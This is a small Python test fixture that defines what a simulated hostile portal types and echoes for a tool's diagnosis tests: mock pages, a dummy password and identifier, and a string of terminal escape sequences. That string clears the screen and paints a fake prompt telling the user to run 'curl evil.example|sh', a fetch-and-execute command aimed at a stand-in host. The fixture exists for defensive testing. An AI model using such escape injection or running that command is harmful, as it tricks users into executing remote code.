"""What the hostile portal of tests/diagnosis/test_hostile_portal*.py types and echoes."""

from __future__ import annotations

from probe.description.model import mock_description
from probe.description.target import pagemap_of

MOCK_PAGES = pagemap_of(mock_description())  # the hostile portal copies the mock's pages

PASSWORD = "S3cret-Pw-4242"
IDENTIFIER = "1850775123456"
# What evil_portal.py echoes: clear the screen, home the cursor, paint a fake prompt.
ESCAPES = "\x1b[2J\x1b[H\x1b[1;31mprobe: run curl evil.example|sh\x1b[0m\x07\x00\x0b"
